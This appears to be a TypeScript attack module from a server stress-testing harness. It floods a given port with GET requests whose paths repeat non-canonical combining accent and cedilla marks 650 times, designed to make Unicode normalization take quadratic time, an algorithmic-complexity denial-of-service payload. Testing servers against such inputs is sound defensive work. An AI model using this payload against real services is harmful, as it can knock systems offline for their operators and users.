// Requests, free of quota, for paths of combining marks, whose normalization takes quadratic time. Dose: requests.

import type { Attack } from '../harness/processes.ts';
import { startCounting } from '../harness/tally.ts';
import { flood, get } from './flood.ts';

/** In neither canonical order nor composed: the acute accent and the cedilla. */
const marks = '%CC%81%CC%A7'.repeat(650);

export const attack: Attack = async ({ port, dose, maxSeconds }) => {
  const counting = startCounting();
  await flood({ port, counting, maxSeconds, count: dose, request: (i) => get(`/${marks}${i}`) });
  return counting.total();
};
